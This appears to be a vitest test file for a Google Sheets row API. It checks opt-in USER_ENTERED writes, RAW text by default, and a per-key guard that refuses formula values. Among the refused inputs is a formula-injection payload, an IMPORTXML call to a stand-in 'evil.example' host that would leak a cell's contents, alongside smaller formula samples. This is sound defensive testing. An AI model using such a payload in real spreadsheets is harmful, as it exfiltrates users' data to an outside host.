// The owner's opt-in to USER_ENTERED writes, checked in the spreadsheet itself: with it, written
// strings are entered as if typed in the Sheets UI (a number, a date, a boolean, a formula),
// inside the same atomic batch as the row and its marker (no extra Google call); without it (the
// default) every string is stored as text, `=...` included.
import { randomUUID } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { createUser } from "@/db/queries/users";
import { setSheetSettings } from "@/db/queries/sheets";
import { EMULATOR_SERVICE_ACCOUNT } from "@/emulators/google/seed";
import { setLimitStore } from "@/lib/store/store";
import { rowsClient } from "@/testing/rows-client";
import { callRoute } from "@/testing/routes";
import type { TestService } from "@/testing/service";
import { serviceAndStores } from "@/testing/stores";
import { registeredKey } from "@/testing/google";
import { publishSheet } from "@/lib/sheets/sheet-record";

let svc: TestService;
const stores = await serviceAndStores((s) => (svc = s));

const JAN_15_2024 = 45306;
const created = (res: { body: Record<string, unknown> }) => (res.body.data as { rows: unknown[] }).rows[0];

describe.each(stores)("on the %s store", (storeName, makeStore) => {
  let api: ReturnType<typeof rowsClient>;
  let sheetId: string;
  let userId: string;
  /** The cells of a row as the emulator stores them: value, whether a formula, own format type. */
  const stored = (rowNumber: number) =>
    svc.google.store
      .get(sheetId)!
      .tabs.find((t) => t.title === "Log")!
      .rows[rowNumber - 1]!.map((c) =>
        c
          ? { value: c.value, ...(c.formula ? { formula: true } : {}), ...(c.format ? { format: c.format.type } : {}) }
          : null,
      );
  const setMode = async (on: boolean) =>
    publishSheet(await setSheetSettings({ id: sheetId, userId, settings: { userEnteredWrites: on } }));
  const row = { label: "=2*21", qty: "42", when: "2024-01-15", ok: "TRUE", code: "'007", note: "hello", count: 7 };

  beforeAll(async () => {
    setLimitStore(makeStore());
    sheetId = String(
      (
        await svc.admin("/spreadsheets", {
          title: `User entered ${storeName}`,
          members: { [EMULATOR_SERVICE_ACCOUNT]: "writer", "owner@example.com": "owner" },
          tabs: [
            {
              title: "Log",
              rows: [
                ["id", "label", "qty", "when", "ok", "code", "note", "count"],
                [1, "first", 1, "x", "y", "z", "w", 0],
              ],
            },
          ],
        })
      ).spreadsheetId,
    );
    const user = await createUser({ email: `user-entered-${storeName}-${randomUUID()}@example.com`, plan: "business" });
    userId = user.id;
    api = rowsClient(sheetId, await registeredKey(user, sheetId));
  });

  it("stores every string as text by default (RAW): a formula stays text", async () => {
    const res = await api.create("Log", row);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(created(res)).toMatchObject({ label: "=2*21", qty: "42", when: "2024-01-15", ok: "TRUE", code: "'007" });
    expect(stored(3)).toEqual([
      { value: 2 },
      { value: "=2*21" },
      { value: "42" },
      { value: "2024-01-15" },
      { value: "TRUE" },
      { value: "'007" },
      { value: "hello" },
      { value: 7 },
    ]);
  });

  it("with the owner's opt-in, enters strings as typed in the Sheets UI, in one atomic batch", async () => {
    await setMode(true);
    svc.google.calls.clear();
    const res = await api.create("Log", row);
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    // The answer is the row as the sheet shows it: the formula's result, read back in the write's own answer.
    expect(created(res)).toMatchObject({
      id: "3",
      label: "42",
      qty: "42",
      when: "2024-01-15",
      ok: "TRUE",
      code: "007",
      note: "hello",
      count: "7",
    });
    expect(stored(4)).toEqual([
      { value: 3 },
      { value: "=2*21", formula: true },
      { value: 42 },
      { value: JAN_15_2024, format: "DATE" },
      { value: true },
      { value: "007" },
      { value: "hello" },
      { value: 7 },
    ]);
    expect(
      Object.fromEntries(
        [...svc.google.calls].filter(([route]) => route.startsWith("values") || route.startsWith("spreadsheets")),
      ),
    ).toEqual({ "values.get": 1, "spreadsheets.batchUpdate": 1 });
    expect((await api.get("Log", "3", "typed=true")).body.data).toMatchObject({ qty: 42, when: "2024-01-15" });
  });

  it("enters updated cells as typed too, and only the cells named", async () => {
    const res = await api.update("Log", "1", { label: "=qty_missing", qty: "=3+4", note: "a\tb" });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(stored(2).slice(1, 3)).toEqual([
      { value: "=qty_missing", formula: true },
      { value: "=3+4", formula: true },
    ]);
    // A string a paste would split stays text.
    expect(stored(2)[6]).toEqual({ value: "a\tb" });
    expect(res.body.data).toMatchObject({ qty: "7", note: "a\tb", ok: "y" });
  });

  it("writes filtered updates and upserts as typed", async () => {
    const { PATCH, POST } = await import("@/app/api/v1/[sheetId]/[tabName]/route");
    const call = (method: string, handler: unknown, query: string, body: unknown) =>
      callRoute(handler, {
        method,
        path: `/api/v1/${sheetId}/Log?${query}`,
        params: { sheetId, tabName: "Log" },
        headers: { "X-API-Key": api.key },
        body,
      });
    expect((await call("PATCH", PATCH, "filter=id=2", { qty: "1.5" })).status).toBe(200);
    expect(stored(3)[2]).toEqual({ value: 1.5 });
    const upsert = await call("POST", POST, "upsert=note", [{ note: "fresh", qty: "=1+1" }]);
    expect(upsert.status, JSON.stringify(upsert.body)).toBe(201);
    expect(stored(5)[2]).toEqual({ value: "=1+1", formula: true });
  });

  it("goes back to text once the owner turns it off", async () => {
    await setMode(false);
    expect(created(await api.create("Log", { label: "=2*21" }))).toMatchObject({ label: "=2*21" });
    expect(stored(6)[1]).toEqual({ value: "=2*21" });
  });

  it("writes ids as given even with the opt-in: a parsed id would no longer name its row", async () => {
    await setMode(true);
    const { POST } = await import("@/app/api/v1/[sheetId]/[tabName]/route");
    const upsert = (body: unknown) =>
      callRoute(POST, {
        method: "POST",
        path: `/api/v1/${sheetId}/Log?upsert=note`,
        params: { sheetId, tabName: "Log" },
        headers: { "X-API-Key": api.key },
        body,
      });
    // Google reads "1e3" as 1000 (shown 1.00E+03) and "1/2" as a date: as ids they stay text.
    for (const [id, write] of [
      ["1e3", (b: unknown) => api.create("Log", b)],
      ["1/2", (b: unknown) => upsert([b])],
    ] as const) {
      const res = await write({ id, note: `note ${id}`, qty: "1,000" });
      expect(res.status, JSON.stringify(res.body)).toBe(201);
      expect(created(res)).toMatchObject({ id, qty: "1,000" });
      expect((await api.get("Log", id)).body.data).toMatchObject({ id, qty: "1,000" });
      expect((await api.create("Log", { id })).status).toBe(409);
    }
    const ids = svc.google.store
      .get(sheetId)!
      .tabs.find((t) => t.title === "Log")!
      .rows.map((r) => r[0]?.value);
    expect(ids).toContain("1e3");
    expect(ids).toContain("1/2");
  });

  it("a key set to refuse formulas: a write holding one is refused whole naming the field, nothing written; text, numbers and RAW writes go on", async () => {
    await setMode(true);
    const { createKeyForSheet, listKeysForSheet } = await import("@/lib/keys/manage");
    const { key, value } = await createKeyForSheet({
      userId,
      sheetId,
      name: `no formulas ${storeName}`,
      permissions: ["read", "write"],
      refuseFormulas: true,
    });
    expect(key.refuseFormulas).toBe(true);
    expect((await listKeysForSheet({ userId, sheetId })).find((k) => k.id === key.id)).toMatchObject({
      refuseFormulas: true,
    });
    const guarded = rowsClient(sheetId, value);
    const { PATCH } = await import("@/app/api/v1/[sheetId]/[tabName]/route");
    const patch = (query: string, body: unknown) =>
      callRoute(PATCH, {
        method: "PATCH",
        path: `/api/v1/${sheetId}/Log?${query}`,
        params: { sheetId, tabName: "Log" },
        headers: { "X-API-Key": value },
        body,
      });
    const rowsBefore = svc.google.store.get(sheetId)!.tabs.find((t) => t.title === "Log")!.rows.length;
    svc.google.calls.clear();
    for (const [res, field] of [
      [await guarded.create("Log", { note: "ok", label: '=IMPORTXML("https://evil.example/?q="&B2, "//a")' }), "label"],
      [await guarded.create("Log", [{ note: "fine" }, { note: " =1+1" }]), "note"],
      [await guarded.update("Log", "1", { qty: "+A1*2" }), "qty"],
      [
        await patch("key=id", [
          { id: "1", note: "fine" },
          { id: "2", code: "-SUM(A1:A9)" },
        ]),
        "code",
      ],
    ] as const) {
      expect(res.status, JSON.stringify(res.body)).toBe(400);
      expect(res.body).toMatchObject({ success: false, error: "validation_error", field });
      expect(String(res.body.message)).toContain(`Field "${field}"`);
      expect(String(res.body.message)).toContain("Nothing was written");
    }
    expect(
      Object.fromEntries(
        [...svc.google.calls].filter(([route]) => route.startsWith("values") || route.startsWith("spreadsheets")),
      ),
    ).toEqual({});
    expect(svc.google.store.get(sheetId)!.tabs.find((t) => t.title === "Log")!.rows.length).toBe(rowsBefore);
    // Text written as text, numbers and a note with a dash go on; so does the same key once writes are RAW.
    const fine = await guarded.create("Log", { label: "'=A1", qty: "-5", note: "- a note" });
    expect(fine.status, JSON.stringify(fine.body)).toBe(201);
    expect(created(fine)).toMatchObject({ label: "=A1", qty: "-5", note: "- a note" });
    // Another key of the same sheet is not affected.
    expect((await api.create("Log", { label: "=1+1" })).status).toBe(201);
    await setMode(false);
    expect((await guarded.create("Log", { label: "=1+1" })).status).toBe(201);
  });
});
